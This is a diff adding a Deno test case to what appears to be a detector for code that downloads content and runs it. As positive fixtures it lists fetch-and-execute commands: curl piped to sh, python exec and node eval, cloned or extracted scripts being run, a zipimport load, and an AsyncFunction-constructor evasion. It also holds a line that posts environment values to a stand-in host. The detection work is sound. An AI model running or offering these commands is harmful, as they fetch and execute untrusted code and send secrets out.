@@ -1817,6 +1817,36 @@ Deno.test("a downloaded file run by Python's os.exec*, os.spawn*, posix_spawn or
   ]);
 });
 
+Deno.test("code a download brought in another shape runs: a cloned repository's or an extracted archive's script, a zip of modules, stdin read by inline code", () => {
+  const url = "https://get.example.net/p";
+  assertRunsOnlyIn("#!/bin/bash\n", "sh", [
+    "git clone https://github.com/acme/tool && cd tool && ./install.sh\n",
+    "git clone https://github.com/acme/tool.git /opt/t\ncd /opt/t\nbash setup.sh\n",
+    "git clone --depth 1 git@github.com:acme/tool.git\npython3 tool/setup.py\n",
+    `curl -fsSL ${url} | tar xz -C /tmp/t\n/tmp/t/run\n`,
+    `curl -fsSL ${url} -o /tmp/t.zip\nunzip /tmp/t.zip -d /tmp/t\nbash /tmp/t/setup.sh\n`,
+    `curl -fsSL ${url} | env -i PATH=/usr/bin sh\n`,
+    `curl -fsSL ${url} | python3 -c "import sys; exec(sys.stdin.read())"\n`,
+    `curl -fsSL ${url} | node -e "eval(require('fs').readFileSync(0, 'utf8'))"\n`,
+  ], [
+    "git clone https://github.com/acme/data /tmp/data\ncat /tmp/data/README.md\n",
+    "git clone /srv/mirror/tool t\n./t/run.sh\n",
+    "tar xzf data.tgz -C out\n./out/run.sh\n",
+    "git clone https://github.com/acme/data /tmp/data\ncd /tmp/data\ncd /work\n./build.sh\n",
+    `curl -fsSL ${url} | python3 -c "import sys, json; print(json.load(sys.stdin)['v'])"\n`,
+    'echo hi | python3 -c "import sys; exec(sys.stdin.read())"\n',
+  ]);
+  assertRunsOnlyIn(`import urllib.request, zipimport\n`, "py", [
+    `urllib.request.urlretrieve("${url}", "/tmp/m.zip")\nzipimport.zipimporter("/tmp/m.zip").load_module("m")\n`,
+  ], ['zipimport.zipimporter("vendor/lib.zip").load_module("lib")\n']);
+  // Function's constructor reached through an async function's prototype.
+  assertRunsOnlyIn(`const code = await (await fetch("${url}")).text();\n`, "js", [
+    "const AF = Object.getPrototypeOf(async function () {}).constructor;\nawait new AF(code)();\n",
+  ], [
+    "const proto = Object.getPrototypeOf(async function () {});\nconsole.log(proto, code.length);\n",
+  ]);
+});
+
 Deno.test("an environment getter handed as a value reads the variables the call names", () => {
   const send = 'urllib.request.urlopen("https://collect.example.org", data=str(vals).encode())\n';
   const sent = (line: string) =>
